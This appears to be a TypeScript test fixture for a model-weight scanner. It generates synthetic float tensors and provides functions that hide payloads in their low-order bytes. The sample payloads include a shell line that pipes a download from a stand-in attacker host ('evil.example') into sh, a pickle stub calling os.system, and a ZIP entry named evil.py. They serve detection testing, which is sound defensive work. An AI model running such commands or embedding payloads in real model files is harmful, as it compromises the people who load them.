/**
 * Float tensor contents for the weight-scan tests: trained-looking, random and adversarial float32
 * and 16-bit words, reproducible from a seed, and payloads to hide in their low-order streams.
 */
import {readFileSync} from 'node:fs'
import path from 'node:path'

import type {Partial} from '../../../src/scan/weights/accumulate.js'
import type {RangeReader} from '../../../src/scan/weights/scan-tensor.js'
import {repoRoot} from '../../helpers/cli.js'
import {rng} from '../../helpers/random.js'

export const ELF = readFileSync(path.join(repoRoot, 'testdata', 'weights', 'tiny.elf'))
export const TEXT = new TextEncoder().encode('#!/bin/sh\ncurl http://evil.example/x | sh\n'.repeat(400))
export const PICKLE = Uint8Array.from([
  0x80,
  0x04,
  0x95,
  0x20,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0x8c,
  0x02,
  0x6f,
  0x73,
  0x94,
  0x8c,
  0x06,
  ...new TextEncoder().encode('system'),
  0x94,
  0x93,
  0x94,
])
export const ZIP = Uint8Array.from([
  0x50,
  0x4b,
  3,
  4,
  20,
  0,
  0,
  0,
  8,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  7,
  0,
  0,
  0,
  ...new TextEncoder().encode('evil.py'),
])

/** Float32 words of one kind of input. */
export function words(kind: string, n: number, seed: number): Uint32Array {
  const r = rng(seed)
  const u = new Uint32Array(n)
  const f = new Float32Array(u.buffer)
  const rnd32 = () => (r() * 4294967296) >>> 0
  for (let i = 0; i < n; i++) {
    const g = Math.sqrt(-2 * Math.log(Math.max(r(), 1e-12))) * Math.cos(2 * Math.PI * r()) * 0.02
    switch (kind) {
      case 'trained':
        f[i] = g
        break
      case 'random':
        u[i] = rnd32()
        break
      case 'special': {
        // every exponent class: zeros, denormals, normals, +-inf, canonical and payload NaNs
        const c = r()
        const sign = r() < 0.5 ? 0x80000000 : 0
        if (c < 0.1) u[i] = sign
        else if (c < 0.2) u[i] = sign | (rnd32() & 0x7fffff)
        else if (c < 0.25) u[i] = sign | 0x7f800000
        else if (c < 0.3) u[i] = sign | 0x7fc00000
        else if (c < 0.35) u[i] = sign | 0x7f800000 | (rnd32() & 0x7fffff || 1)
        else if (c < 0.4) u[i] = sign | ((Math.floor(r() * 256) << 23) >>> 0) | (rnd32() & 0x7fffff)
        else f[i] = g
        u[i] >>>= 0
        break
      }
      case 'pruned':
        f[i] = r() < 0.6 ? 0 : g
        break
      case 'tiny':
        // a few normal values below 2^-60 among weights (rare magnitudes without zeros or denormals)
        f[i] = r() < 0.01 ? g * 2 ** -80 : g
        break
      case 'upcast':
        // fp16-exact values with a dense run of non-zero low bits
        f[i] = g
        u[i] = (u[i] & ~0x1fff) >>> 0
        if (i > n / 3 && i < n / 3 + 3000 && r() < 0.5) u[i] = (u[i] | (rnd32() & 0x1fff)) >>> 0
        break
      case 'bf16':
        f[i] = g
        u[i] = (u[i] & 0xffff0000) >>> 0
        break
      case 'constant':
        u[i] = 0x3c23d70a
        break
      case 'magics':
        // every element a two-byte magic in both probes (far more than 64 candidates per half)
        f[i] = g
        u[i] = ((u[i] & 0xffff0000) | (i % 2 ? 0x5a4d : 0x4d4d)) >>> 0
        break
      case 'printable':
        f[i] = g
        u[i] = ((u[i] & 0xffff0000) | (0x20 + (rnd32() % 95)) | ((0x20 + (rnd32() % 95)) << 8)) >>> 0
        break
      case 'xor':
        f[i] = g
        u[i] = ((u[i] & ~0xff) | (0x41 + (rnd32() % 6))) >>> 0
        break
      default:
        throw new Error(kind)
    }
  }
  return u
}

/** Hides a payload in the k low bytes of elements from `at` (k = 4: raw bytes). */
export function hide(u: Uint32Array, payload: Uint8Array, k: number, at: number): void {
  const b = new Uint8Array(u.buffer, u.byteOffset, u.byteLength)
  let p = 0
  for (let e = at; p < payload.length && e < u.length; e++) for (let j = 0; j < k && p < payload.length; j++) b[e * 4 + j] = payload[p++]
}

/** 16-bit float words (float16 or bfloat16 bit patterns) of a kind, reproducibly from `seed`. */
export function words16(kind: string, n: number, seed: number, bf: boolean): Uint16Array {
  const r = rng(seed)
  const u = new Uint16Array(n)
  const expBits = bf ? 8 : 5
  const manBits = bf ? 7 : 10
  const bias = bf ? 127 : 15
  const expMask = ((1 << expBits) - 1) << manBits
  // a weight-like value: exponent a few below the bias, random mantissa and sign
  const weight = () => ((r() < 0.5 ? 0x8000 : 0) | ((bias - 2 - Math.floor(r() * 6)) << manBits) | Math.floor(r() * (1 << manBits))) & 0xffff
  for (let i = 0; i < n; i++) {
    switch (kind) {
      case 'trained':
        u[i] = weight()
        break
      case 'random':
        u[i] = Math.floor(r() * 65536)
        break
      case 'special': {
        // zeros, ±inf, NaNs (quiet and with payloads), denormals, the largest finite values
        const x = r()
        const sign = r() < 0.5 ? 0x8000 : 0
        if (x < 0.1) u[i] = sign
        else if (x < 0.2) u[i] = expMask | sign
        else if (x < 0.3) u[i] = expMask | (1 + Math.floor(r() * ((1 << manBits) - 1))) | sign
        else if (x < 0.4) u[i] = Math.floor(r() * (1 << manBits)) | sign
        else if (x < 0.45) u[i] = (expMask - (1 << manBits)) | ((1 << manBits) - 1)
        else u[i] = weight()
        break
      }
      case 'pruned':
        u[i] = r() < 0.6 ? 0 : weight()
        break
      case 'constant':
        u[i] = bf ? 0x3c23 : 0x2e1f
        break
      case 'magics':
        // every element a two-byte magic in both probes (far more than 64 candidates per half)
        u[i] = i % 2 ? 0x5a4d : 0x4d4d
        break
      case 'printable':
        u[i] = (weight() & 0xff00) | (0x20 + Math.floor(r() * 95))
        break
      case 'zerolow':
        u[i] = weight() & 0xff00
        break
      case 'xor':
        u[i] = (weight() & 0xff00) | (0x41 + Math.floor(r() * 6))
        break
      default:
        throw new Error(kind)
    }
  }
  return u
}

/** Hides a payload in the k low bytes of 16-bit elements from `at` (k = 2: raw bytes). */
export function hide16(u: Uint16Array, payload: Uint8Array, k: number, at: number): void {
  const b = new Uint8Array(u.buffer, u.byteOffset, u.byteLength)
  let p = 0
  for (let e = at; p < payload.length && e < u.length; e++) for (let j = 0; j < k && p < payload.length; j++) b[e * 2 + j] = payload[p++]
}

/** Everything but the bookkeeping fields the two paths keep differently (lazy counters). */
export function norm(p: Partial): unknown {
  const half = (h: Partial['head']) => h && {index: h.index, n: h.n, zeros: h.zeros, t13: h.t13, h0: Array.from(h.h0), h1: Array.from(h.h1)}
  return {...p, head: half(p.head), tail: half(p.tail)}
}

/** A reader over `bytes` that, like the file readers, writes into `into` when given. */
export function copyingReader(bytes: Uint8Array): RangeReader {
  return (pos, len, into) => {
    const src = bytes.subarray(pos, Math.min(bytes.length, pos + len))
    if (!into) return src
    into.set(src)
    return into.subarray(0, src.length)
  }
}
